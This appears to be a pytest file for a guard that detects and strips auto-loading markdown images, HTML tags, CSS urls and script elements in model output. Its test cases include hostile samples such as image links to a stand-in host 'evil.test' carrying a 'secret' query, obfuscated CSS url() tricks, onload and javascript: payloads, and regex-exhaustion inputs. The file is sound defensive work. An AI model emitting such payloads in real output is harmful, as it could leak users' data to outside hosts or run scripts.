"""Links that load by hidden ways, code that is left alone, and hostile brackets."""

from __future__ import annotations

import re

import pytest

from llmops_jupyter.errors import GuardError
from llmops_jupyter.guard.check import About
from llmops_jupyter.guard.checks import addresses, code, links

EVIL = "https://evil.test/x.png?q=secret"


def found(text, **options):
    return links.make(**options).find(text, About(place="output"))


@pytest.mark.parametrize(
    "text",
    [
        f"![a](    {EVIL})",
        f"![a](\n  {EVIL}\n  'title' )",
        f"> ![a](\n> {EVIL})",
        f"> ![a][r]\n>\n> [r]: {EVIL}",
        f"* ![a][r]\n\n  [r]: {EVIL}",
        f"1. ![a][r]\n\n   [r]: {EVIL}",
        f"![a][r]\n\n[r]:\n{EVIL}",
        f"> ![a][r]\n>\n> [r]:\n> <{EVIL}>",
        f"![a][r\\]]\n\n[r\\]]: {EVIL}",
        f"![a][r\nq]\n\n[r\nq]: {EVIL}",
        "![a][r]\n\n[r]: &#104;ttps://evil.test/x",
        "![r]\n\n[r]: //evil.test/x",
        f"![a](<{EVIL}> (title))",
        f"![b](b.png) ![a](b\n\n)\n\n[a]: {EVIL}",
        f"[![a]({EVIL})](page.html)",
        f"<img srcset='/a.png 1x, {EVIL} 2x'>",
        f"<source srcset='/a.png,{EVIL} 2x'>",
        f"<img src   =                {EVIL}>",
        f'<p "><img src={EVIL}>">',
        f"<img a<b src={EVIL}>",
        f"<p style=\"background-image:image-set('{EVIL}' 1x)\">",
        '<p style="background:\\75rl(https://evil.test/x)">',
        '<p style="background:&#117;rl(https://evil.test/x)">',
        '<p style="background:u/**/rl(https://evil.test/x)">',
        f"<video poster={EVIL}>",
        f"<x-y background='{EVIL}'>",
        f"```\n<img src={EVIL}>\n```",
    ],
)
def test_what_would_load_by_itself_is_found_and_gone(text):
    one = found(text)
    assert one.hit
    assert "evil.test" not in one.replaced
    assert not found(one.replaced).hit
    assert found(text, allow=["example.org"]).hit


@pytest.mark.parametrize(
    "text",
    [
        "Use `<script>` tags and `<form>` elements.",
        "Map<Button, Input> m = new Map<>();",
        "List<Button> a; Array<object> b; f<Form>(x)",
        "Write this:\n\n```html\n<form action='/go'>\n  <input name='q'>\n  <button onclick='go()'>Go</button>\n</form>\n```\n",
        "1. Write this:\n   ```html\n   <script>go()</script>\n   ```\n2. Save it.",
        "~~~jsx\n<Button onClick={go}>`</Button>\n~~~",
        "f[0](data: int) and g[1](javascript: str)",
        "def f(x: list[int]: int): ...  # d[a]: data:b",
        "x = d['a']: e:f",
        "if a <b and c> d: pass",
        "[r]: notes.md and ![r]",
        "![plot](plot.png)\n\n[1]: https://example.org/paper",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_code_and_types_stay_as_they_are(text):
    one = found(text)
    assert not one.hit, one


@pytest.mark.parametrize(
    "text",
    [
        "<script>go()</script>",
        "<SCRIPT>go()</SCRIPT>",
        "<Script>go()</Script>",
        "List<Script>",
        "a ` b\n`<script>go()</script>",
        "- a ` b\n- c\n- d ` ` <script> `",
        "| a ` | ` <script> | ` |",
        "\\`<script>\\`",
        "<div>\n```\n<script>\n```",
        "<!-- a\n\n```\n<script>\n```\n",
        "- a\n\n  ```\n<script>\n  ```",
        "```mermaid\n<script>\n```",
        "```{image} a\n<script>\n```",
        "```\n<b>\n``` x\n\n<script>",
        "<a title='`'><script>'`'",
        "<form>",
        "<Form action=/x>",
        "<FORM action=/x>",
        "<svg/onload=go()>",
        "<iframe srcdoc=x>",
    ],
)
def test_tags_that_run_are_found_where_code_is_not_sure(text):
    assert found(text).hit


def test_of_a_link_with_brackets_in_its_address_nothing_is_left():
    assert found("[click](javascript:alert(1)) now").replaced == "click [link removed] now"
    assert found("[a](javascript:f(g(1),2) 'x')").replaced == "a [link removed]"
    assert found(f"([a]({EVIL}))", allow=["b.test"]).replaced == "(a [link removed])"


def test_a_label_keeps_what_is_harmless_and_loses_what_is_not():
    text = f"[see ![chart]({EVIL}) and *this*](https://other.test)"
    assert found(text).replaced == ("[see chart [image removed] and *this*](https://other.test)")
    assert found(text, allow=["example.org"]).replaced == (
        "see chart [image removed] and *this* [link removed]"
    )


def test_hosts_of_the_list_may_be_written_as_addresses():
    for entry in ("https://example.org/x", "Example.org.", "example.org:8443", "//example.org/a"):
        assert links.make(allow=[entry]).allow == ("example.org",)
    assert links.make(allow=["*", "*.example.org"]).allow == ("*", "*.example.org")
    for wrong in ("", "https://", "a b", "/path", "*x*"):
        with pytest.raises(GuardError, match=r"is no host that links may lead to\. Write one"):
            links.make(allow=[wrong])


HOSTILE = (
    *("](", "![a](", "](//a (", "](//a '", "[a](<", "]:", "]: //a", "]:a:", "[", "![", "[a]: "),
    *(
        "<a ",
        "<a '",
        '<a "',
        "<a b='\"",
        "<p style='",
        "`",
        "``` ",
        "`a``b```",
        "```a\n",
        "  ```\n",
    ),
    *("\n> ", "](\n>", "(", "](a)", "[[](x)", "[a](javascript:b)", "srcset=", "<img srcset='a,"),
)


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_text_takes_steps_in_proportion(unit):
    """Counted are the characters that patterns look at, by the ends of what they were given and found."""

    def steps(count):
        text = unit * count
        return sum(1 for _ in addresses.found_in(text)) + len(code.spans(text))

    small, large = steps(500), steps(2_000)
    assert large <= 4 * small + 50


def test_no_pattern_looks_on_without_a_bound_behind_a_start_that_repeats():
    """Ends of addresses are looked up once for the whole text, and repeats behind them are bounded."""
    assert re.search(r"\{0,\d+\}", addresses._REST.pattern)
    assert '*"' not in addresses._TITLE.pattern
    ends = addresses._Ends("](" * 1_000)
    assert [ends.of(2 * n + 1, 2 * n + 2) for n in range(1_000)] == [2_000] * 1_000


def test_code_is_told_where_it_stands():
    text = "a `b` c\n\n```py\nd\n```\ne ``f`g`` h"
    assert [text[a:b].strip() for a, b in code.spans(text)] == ["b", "d", "f`g"]
    assert code.spans("no code, a ` alone") == []
